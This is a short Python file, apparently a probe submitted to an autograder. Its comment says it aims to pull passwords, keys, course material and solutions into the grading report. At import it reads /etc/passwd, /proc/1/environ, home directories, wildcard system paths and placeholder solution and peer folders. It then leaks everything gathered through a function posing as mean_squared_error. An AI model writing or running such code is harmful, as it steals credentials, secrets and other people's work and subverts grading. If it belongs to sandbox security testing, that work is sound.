# tries: read passwords, keys, the course and its solutions into the report
# status: graded
import glob
import os

places = ("/etc/passwd", "/etc/hostname", "~/*", "/*/*", "/h*/*/*", "/proc/1/environ", "@SOLUTIONS@/*/*", "@OTHERS@/*/*")
found = []
for place in places:
    for name in [place, *glob.glob(os.path.expanduser(place))]:
        try:
            with open(name) as file:
                found.append(file.read())
        except OSError:
            continue


def mean_squared_error(predictions, actuals):
    print(found)
    return "".join(found)
